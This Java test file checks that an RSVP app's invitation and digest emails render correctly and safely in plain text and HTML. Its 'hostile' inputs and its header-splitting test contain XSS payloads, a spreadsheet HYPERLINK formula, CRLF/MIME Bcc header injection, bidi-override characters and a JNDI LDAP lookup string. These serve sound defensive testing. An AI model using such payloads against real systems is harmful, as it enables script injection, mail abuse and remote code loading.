package dev.rollcall.mail.message;

import static org.assertj.core.api.Assertions.assertThat;

import dev.rollcall.mail.Mails;
import dev.rollcall.mail.Notifications;
import dev.rollcall.mail.text.SafeText;
import dev.rollcall.mail.text.Words;
import dev.rollcall.rsvp.answer.Answer;
import dev.rollcall.rsvp.answer.ParticipationStatus;
import dev.rollcall.rsvp.answer.Standing;
import dev.rollcall.rsvp.invitation.Invitation;
import dev.rollcall.rsvp.notification.Notification;
import dev.rollcall.rsvp.outbox.NotificationKind;
import jakarta.mail.internet.MimeMessage;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.Collections;
import java.util.List;
import java.util.Locale;
import java.util.Optional;
import java.util.stream.Stream;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

final class NotificationMailTest {

    private static final String PAGE = "https://rollcall.example.com/base/rsvp/" + Notifications.LINK.value();

    @Test
    void anInvitationShouldSayAllThatAGuestNeeds() throws Exception {
        String text = Mails.text(Mails.arrived(Notifications.plain().of(NotificationKind.INVITATION)), "text/plain");
        assertThat(text).isEqualTo("""
                Hello Bea Guest,

                Ann Host invites you to “Summer party”.

                Ann Host writes:
                > Dear all,
                > it would be lovely to see you.

                When: Saturday, 3 May 2031, 18:00–22:00 (Europe/Berlin, UTC+02:00)
                Where: Garden of the Old Mill, Mill Lane 3
                Please answer by: Saturday, 26 April 2031, 12:00 (Europe/Berlin, UTC+02:00)
                About: Bring a salad, or a cake.
                  The garden gate is open.

                Will you come?
                Yes, I come:
                %1$s?response=accepted
                Perhaps:
                %1$s?response=tentative
                No, sorry:
                %1$s?response=declined

                Each opens a page on which you send your answer; nothing is sent before that. This link is yours alone. \
                Please don’t pass it on.

                --\s
                Ann Host sent you this with Rollcall. Reply to this mail to write to Ann Host.
                """.formatted(PAGE));
    }

    @ParameterizedTest
    @MethodSource("kinds")
    void everyKindShouldSayTheSameInTextAndHtml(NotificationKind kind) throws Exception {
        MimeMessage mail =
                Mails.arrived(Notifications.accepted(2, Standing.CONFIRMED).of(kind));
        String text = Mails.text(mail, "text/plain");
        Document html = Jsoup.parse(Mails.text(mail, "text/html"));

        assertThat(html.selectFirst("html").attr("lang")).isEqualTo("en");
        assertThat(html.title()).isEqualTo(mail.getSubject());
        assertThat(html.select("h1")).hasSize(1);
        assertThat(text).contains(html.selectFirst("h1").text());
        for (Element fact : html.select("dt")) {
            assertThat(text).contains(fact.text() + ": ");
        }
        assertThat(html.select("a").eachAttr("href").stream().filter(link -> link.contains("?")))
                .allSatisfy(link -> assertThat(text).contains(link));
        boolean over = List.of(NotificationKind.CANCELLED, NotificationKind.WITHDRAWN, NotificationKind.DIGEST)
                .contains(kind);
        assertThat(html.select("a")).hasSize(over ? 0 : 4);
        assertThat(html.select("[src],link,script,form,iframe")).isEmpty();
        assertThat(text.toLowerCase(Locale.ROOT)).doesNotContain("null", "optional[", "{0}", "''");
    }

    static List<NotificationKind> kinds() {
        return Notifications.KINDS;
    }

    @Test
    void theStandingShouldBeSaid() throws Exception {
        assertThat(text(Notifications.accepted(1, Standing.CONFIRMED), NotificationKind.START_REMINDER))
                .contains("You come, and your seat is confirmed.", "Have your plans changed?");
        assertThat(text(Notifications.accepted(3, Standing.CONFIRMED), NotificationKind.PROMOTED))
                .contains("You come, and your 3 seats are confirmed.");
        assertThat(text(Notifications.accepted(1, Standing.WAITLISTED), NotificationKind.CHANGED))
                .contains("You are on the wait-list. We write to you if a seat comes free.");
        assertThat(text(Notifications.accepted(2, Standing.WAITLISTED), NotificationKind.CHANGED))
                .contains("You are on the wait-list for 2 seats.");
        assertThat(text(Notifications.accepted(2, Standing.CONFIRMED).moved(1), NotificationKind.CHANGED))
                .contains("please answer again. Until then your seat is kept.", "Will you come?");
    }

    @Test
    void timesShouldBeThoseOfThePlace() throws Exception {
        assertThat(text(
                        Notifications.plain().at("2031-05-03T22:00", Optional.of("2031-05-04T02:00"), "UTC", false),
                        NotificationKind.INVITATION))
                .contains("When: Saturday, 3 May 2031, 22:00 – Sunday, 4 May 2031, 02:00 UTC\n");
        assertThat(text(
                        Notifications.plain().at("2031-12-24T18:00", Optional.empty(), "Asia/Kolkata", false),
                        NotificationKind.INVITATION))
                .contains("When: Wednesday, 24 December 2031, 18:00 (Asia/Kolkata, UTC+05:30)\n");
        assertThat(text(
                        Notifications.plain().at("2031-05-03T00:00", Optional.of("2031-05-04T00:00"), "UTC", true),
                        NotificationKind.INVITATION))
                .contains("When: Saturday, 3 May 2031\n");
        assertThat(text(
                        Notifications.plain().at("2031-05-03T00:00", Optional.of("2031-05-05T23:59"), "UTC", true),
                        NotificationKind.INVITATION))
                .contains("When: Saturday, 3 May 2031 – Monday, 5 May 2031\n");
    }

    @Test
    void aGuestWithoutANameShouldBeGreetedAllTheSame() throws Exception {
        Notification notification =
                Notifications.plain().to("", "bea@example.org").of(NotificationKind.INVITATION);

        assertThat(Mails.text(Mails.arrived(notification), "text/plain")).startsWith("Hello,\n");
        assertThat(Mails.arrived(notification).getHeader("To", null)).isEqualTo("bea@example.org");
    }

    @Test
    void aDigestShouldListWhoAnswered() throws Exception {
        Invitation comes = Notifications.plain()
                .to("Bea", "bea@example.org")
                .answering(new Answer(ParticipationStatus.ACCEPTED, 2, Optional.of("See\nyou")), Standing.CONFIRMED)
                .invitation();
        Invitation waits = Notifications.accepted(1, Standing.WAITLISTED)
                .to("Cem", "cem@example.org")
                .invitation();
        Invitation declines = Notifications.plain()
                .to("", "dora@example.org")
                .answering(new Answer(ParticipationStatus.DECLINED, 0, Optional.empty()), Standing.NONE)
                .invitation();
        MimeMessage mail = Mails.arrived(Notifications.plain().digest(List.of(waits, declines, comes)));
        assertThat(mail.getSubject()).isEqualTo("3 new answers: Summer party");
        assertThat(Mails.text(mail, "text/plain"))
                .startsWith("Hello Ann Host,\n")
                .contains("3 guests have answered your invitation to “Summer party”.")
                .contains(
                        "- Bea comes, 2 in all: “See you”\n- Cem is on the wait-list\n- dora@example.org does not come")
                .contains("Seats: 18 of 20 taken")
                .contains("Altogether: 12 invited · 7 accepted · 2 perhaps · 1 declined · 1 on the wait-list");
        assertThat(Mails.arrived(Notifications.plain().digest(List.of(comes))).getSubject())
                .isEqualTo("One new answer: Summer party");
        assertThat(Mails.text(
                        Mails.arrived(Notifications.plain().digest(Collections.nCopies(5_000, comes))), "text/plain"))
                .contains("5,000 guests have", "… and 4,800 more");
    }

    @Test
    void aDigestShouldTellOfProposalsAndOfRepliesThatDoNotCount() throws Exception {
        Invitation asked = Notifications.plain()
                .to("Bea", "bea@example.org")
                .answering(
                        new Answer(ParticipationStatus.NEEDS_ACTION, 0, Optional.of("Proposes another time: Sunday.")),
                        Standing.NONE)
                .invitation();
        Notification.ForeignReply foreign = new Notification.ForeignReply(asked.guest(), "b@elsewhere.example");

        assertThat(Mails.text(
                        Mails.arrived(Notifications.plain().digest(List.of(asked), List.of(foreign))), "text/plain"))
                .contains("One guest has answered")
                .contains("- Bea has not answered yet: “Proposes another time: Sunday.”\n"
                        + "- Bea: a reply came from b@elsewhere.example, which is not invited. It does not count.");
        MimeMessage alone = Mails.arrived(Notifications.plain().digest(List.of(), List.of(foreign)));
        assertThat(alone.getSubject()).isEqualTo("A reply that does not count: Summer party");
        assertThat(Mails.text(alone, "text/plain"))
                .contains("Somebody who is not invited has answered your invitation to “Summer party”.");
    }

    static Stream<String> hostile() {
        return Stream.of(
                "<script>alert(1)</script><img src=x onerror=alert(1)>",
                "\"><a href='javascript:alert(1)'>x</a>",
                "=HYPERLINK(\"http://evil.example\",\"click\")",
                "=?utf-8?Q?=0D=0ABcc:_evil@example.org?=",
                "\u202Etxt.exe \u2066 \u200F أهلا 😀👩‍👩‍👧‍👦",
                "{0} ''{1,choice,broken ${jndi:ldap://evil} %s",
                "a, b; <evil@example.org>, \"c\" (d) :",
                "x".repeat(200),
                "😀".repeat(200));
    }

    @ParameterizedTest
    @MethodSource("hostile")
    void textsOfPeopleShouldStayTexts(String text) throws Exception {
        for (NotificationKind kind : Notifications.KINDS) {
            Notifications notifications = Notifications.plain()
                    .everywhere(text)
                    .answering(new Answer(ParticipationStatus.ACCEPTED, 2, Optional.of(text)), Standing.CONFIRMED);
            MimeMessage mail = Mails.arrived(notifications.of(kind));
            String clean = SafeText.line(text);

            assertThat(mail.getSubject()).contains(clean.replace("=?", "= ?"));
            assertThat(mail.getHeader("Bcc")).isNull();
            assertThat(mail.getAllRecipients()).hasSize(1);
            assertThat(mail.getFrom()).hasSize(1);
            Document html = Jsoup.parse(Mails.text(mail, "text/html"));
            assertThat(html.select("script,img,[onerror]")).isEmpty();
            assertThat(html.select("a").eachAttr("href"))
                    .allSatisfy(link -> assertThat(link).startsWith(PAGE));
            assertThat(html.selectFirst("h1").wholeText()).contains(clean);
            assertThat(Mails.text(mail, "text/plain")).contains(clean).doesNotContain("\u202E", "\u2066");
            ByteArrayOutputStream raw = new ByteArrayOutputStream();
            mail.writeTo(raw);
            assertThat(raw.toString(StandardCharsets.ISO_8859_1)).matches("(?s)\\p{ASCII}*");
            assertThat(raw.toString(StandardCharsets.US_ASCII).lines()).allMatch(line -> line.length() <= 998);
        }
    }

    /** Such names are refused when they are stored; a mail must not depend on that. */
    @Test
    void noLineShouldEndWhereAHeaderDoesNot() throws Exception {
        String evil = "x\r\nBcc: evil@example.org\r\n\r\n<b>\u2028\u0085y\u0000";
        assertThat(SafeText.line(evil)).isEqualTo("x Bcc: evil@example.org  <b>  y");
        assertThat(SafeText.lines(evil)).isEqualTo("x\nBcc: evil@example.org\n\n<b>\n\ny");
        assertThat(SafeText.lines("\ud800a\udc00 😀")).isEqualTo("a 😀");
    }

    @Test
    void wordsShouldBeThereForEveryKind() {
        Words words = new Words(Locale.ENGLISH);
        for (NotificationKind kind : Notifications.KINDS) {
            assertThat(words.say("subject." + kind, "t", "o", "g", 2)).contains("t");
            assertThat(words.say("lead." + kind, "t", "o", "g", 2)).contains("t");
        }
        assertThat(new Words(Locale.JAPANESE).say("greeting.nameless")).isEqualTo("Hello,");
    }

    private static String text(Notifications notifications, NotificationKind kind) throws Exception {
        Notification notification = notifications.of(kind);
        return Mails.text(Mails.arrived(notification), "text/plain");
    }
}
